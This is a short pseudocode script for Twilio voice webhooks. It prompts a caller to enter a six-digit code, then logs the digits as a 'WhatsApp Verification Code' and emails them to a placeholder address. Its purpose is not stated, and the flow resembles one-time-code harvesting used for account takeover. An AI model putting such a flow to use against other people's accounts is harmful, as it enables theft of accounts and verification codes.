REM Twilio Voice Webhook Handler
ON WEBHOOK POST TO "/twilio/voice" DO
  REM Create TwiML response
  LET TWIML$ = "<?xml version=""1.0"" encoding=""UTF-8""?>"
  TWIML$ = TWIML$ + "<Response>"
  TWIML$ = TWIML$ + "<Gather action=""https://your-domain.com/twilio/gather"" method=""POST"" numDigits=""6"">"
  TWIML$ = TWIML$ + "<Say voice=""alice"" language=""pt-BR"">"
  TWIML$ = TWIML$ + "Please enter your verification code followed by the pound sign."
  TWIML$ = TWIML$ + "</Say>"
  TWIML$ = TWIML$ + "</Gather>"
  TWIML$ = TWIML$ + "<Redirect>https://twimlets.com/voicemail?Email=your-email@example.com</Redirect>"
  TWIML$ = TWIML$ + "</Response>"
  
  REM Set response content type
  SET RESPONSE HEADER "Content-Type" TO "text/xml"
  PRINT TWIML$
END ON

REM Gather Handler (receives the DTMF input)
ON WEBHOOK POST TO "/twilio/gather" DO
  REM Get the digits entered
  LET CODE$ = GET FORM VALUE "Digits"
  
  REM Log the verification code
  LOG "WhatsApp Verification Code: " + CODE$
  
  REM Send email notification
  SEND MAIL TO "your-email@example.com" WITH SUBJECT "WhatsApp Verification Code" AND BODY "Your verification code is: " + CODE$
  
  REM Create confirmation TwiML
  LET TWIML$ = "<?xml version=""1.0"" encoding=""UTF-8""?>"
  TWIML$ = TWIML$ + "<Response>"
  TWIML$ = TWIML$ + "<Say>Thank you. Your code has been received.</Say>"
  TWIML$ = TWIML$ + "</Response>"
  
  SET RESPONSE HEADER "Content-Type" TO "text/xml"
  PRINT TWIML$
END ON
